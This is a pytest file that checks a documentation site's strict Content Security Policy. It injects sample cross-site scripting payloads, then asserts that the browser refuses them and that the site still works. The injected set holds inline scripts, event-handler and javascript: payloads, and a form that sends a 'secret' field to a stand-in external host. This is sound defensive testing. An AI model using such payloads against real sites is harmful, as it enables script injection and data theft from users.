"""The content security policy: nothing inline runs, nothing foreign is loaded, and the site works all the same."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from .test_reading import reader

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')

INJECTED = """
<script>window.harmed = "script"</script>
<img src="no-such.png" onerror="window.harmed = 'handler'">
<svg onload="window.harmed = 'svg'"><circle r="1"/></svg>
<iframe srcdoc="<script>parent.harmed = 'frame'</script>"></iframe>
<script src="data:text/javascript,window.harmed = 'data'"></script>
<script src="https://stranger.example/x.js"></script>
<img id="beacon" src="https://stranger.example/x.png">
<style>body { --harmed: 1 }</style>
<p id="styled" style="--harmed: 1">x</p>
<base href="https://stranger.example/">
<form action="https://stranger.example/"><input name="secret" value="1"><button id="send">Send</button></form>
<a id="click" href="javascript:void(window.harmed = 'link')">click</a>
"""
"""What a page would hold if the escaping of an article's words failed; each line would do harm in its own way."""


class Inline(HTMLParser):
    """Scripts, styles, handlers and ids that stand in a page itself."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[object] = []
        self.ids: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        data = (given.get("type") or "").endswith("json")
        if tag == "style" or (tag == "script" and "src" not in given and not data):
            self.found.append(tag)
        self.found += [(tag, name) for name, _ in attrs if name == "style" or name.startswith("on")]
        self.ids += [value for name, value in attrs if name == "id" and value]


@pytest.fixture(params=["site", "flat_site", "zensical_site"])
def any_site(request: pytest.FixtureRequest) -> Path:
    """The site as MkDocs builds it, with and without folders as addresses, and as Zensical does."""
    folder: Path = request.getfixturevalue(request.param)
    return folder


def test_no_page_needs_anything_inline(any_site: Path) -> None:
    """No script, style or handler stands in a page itself, whoever built it; every page has the same strict policy."""
    policies = set()
    for path in any_site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert Inline(text).found == [], path
        found = POLICY.search(text)
        assert found, path
        assert "<script" not in text[: found.start()], "a script before the policy would not be bound by it"
        policies.add(" ".join(found[1].split()))
    (policy,) = policies
    assert policy.startswith("default-src 'none'; script-src 'self'")
    assert "unsafe-inline" not in policy
    assert "unsafe-eval'" not in policy.replace("'wasm-unsafe-eval'", "")


def test_scripts_are_asked_for_in_the_head(any_site: Path) -> None:
    """A browser fetches all at once and runs them in order once it has read the page; the palette's stops it alone."""
    for path in any_site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if 'content="noindex"' in text:  # a former address, with one script of its own
            continue
        head, body = text.split("</head>")
        asked = re.findall(r'<script( defer)? src="[^"]*?([^"/.]+)[^"/]*\.js">', head)
        assert asked == [("", "early"), (" defer", "bundle"), (" defer", "briefing"), (" defer", "correct")], path
        assert re.findall(r'<script src="[^"]*?([^"/]+)\.js">', body) == ["palette"], path


def test_ids_of_the_theme_are_taken_by_no_heading(any_site: Path) -> None:
    """What a script of the theme looks up by its id, such as its settings, is found once on each page."""
    for path in any_site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if 'content="noindex"' in text:  # a former address, without anything of the theme
            continue
        ids = Inline(text).ids
        assert sorted({one for one in ids if ids.count(one) > 1}) == [], path
        assert ids.count("__config") == 1


def test_what_slips_through_the_escaping_does_nothing(
    browser: Any, published: tuple[Path, str], tmp_path: Path
) -> None:
    """Scripts, handlers, frames, styles, foreign files and addresses in a page are refused; the page works."""
    site, address = published
    page_file = site / "interests/trade/index.html"
    kept = tmp_path / "kept.html"
    shutil.copy(page_file, kept)
    text = page_file.read_text(encoding="utf-8")
    page_file.write_text(text.replace("</article>", INJECTED + "</article>"), encoding="utf-8")
    context = browser.new_context()
    try:
        page = context.new_page()
        asked: list[str] = []
        refused: list[str] = []
        page.route("https://stranger.example/**", lambda route: (asked.append(route.request.url), route.abort()))
        page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
        page.goto(address + "interests/trade/")
        page.wait_for_selector(".filters select")
        for name in ("click", "send"):  # a click by the pointer would wait for the page that never comes
            page.evaluate(f"document.getElementById('{name}').click()")
        assert page.evaluate("window.harmed") is None
        for where in ("document.body", "document.getElementById('styled')"):
            assert page.evaluate(f"getComputedStyle({where}).getPropertyValue('--harmed')") == ""
        assert asked == []
        assert page.evaluate("document.getElementById('beacon').naturalWidth") == 0
        assert page.evaluate("location.href") == address + "interests/trade/"
        assert len(refused) >= 8, refused
    finally:
        context.close()
        shutil.copy(kept, page_file)


def test_injection_would_have_done_harm_without_the_policy(browser: Any, published: tuple[Path, str]) -> None:
    """The same page without the policy is harmed: the test above can fail."""
    context = browser.new_context()
    page = context.new_page()
    text = (published[0] / "interests/trade/index.html").read_text(encoding="utf-8")
    page.set_content(POLICY.sub("", text).replace("</article>", INJECTED + "</article>"))
    page.wait_for_function("window.harmed")
    context.close()


def test_instant_navigation_works_under_the_policy(browser: Any, address: str) -> None:
    """A click changes the page without loading it anew, its scripts run on it, and the map's links are such links."""
    with reader(browser, address) as page:
        page.goto(address)
        page.evaluate("window.here = true")
        page.click(".md-tabs >> text=Interests")
        page.wait_for_url("**/interests/")
        page.click("text=Trade >> nth=0")
        page.wait_for_url("**/interests/trade/**")
        page.wait_for_selector(".filters select")
        assert page.evaluate("window.here"), "the page was loaded anew"


def test_columns_of_numbers_stand_to_the_right(browser: Any, address: str) -> None:
    """The side of a column is told without a style, which the policy would refuse."""
    with reader(browser, address) as page:
        page.goto(address + "quotes/")
        sides = page.eval_on_selector_all("td[align=right]", "all => all.map(e => getComputedStyle(e).textAlign)")
        assert sides
        assert {side.removeprefix("-webkit-") for side in sides} == {"right"}


def test_from_a_folder_without_a_server(browser: Any, flat_site: Path) -> None:
    """Opened as files the pages show, their filters work and the palette can be changed."""
    page = browser.new_context().new_page()
    page.goto((flat_site / "interests/trade.html").as_uri())
    page.select_option('.filters select[data-name="kind"]', "opposition")
    assert page.locator(".fact:visible").count() == 1
    before = page.get_attribute("body", "data-md-color-scheme")
    for _ in range(3):
        page.locator("[data-md-component=palette] label:visible").first.click()
        if page.get_attribute("body", "data-md-color-scheme") != before:
            break
    assert page.get_attribute("body", "data-md-color-scheme") != before
    assert page.evaluate("getComputedStyle(document.querySelector('.fact')).fontFamily")
    page.context.close()
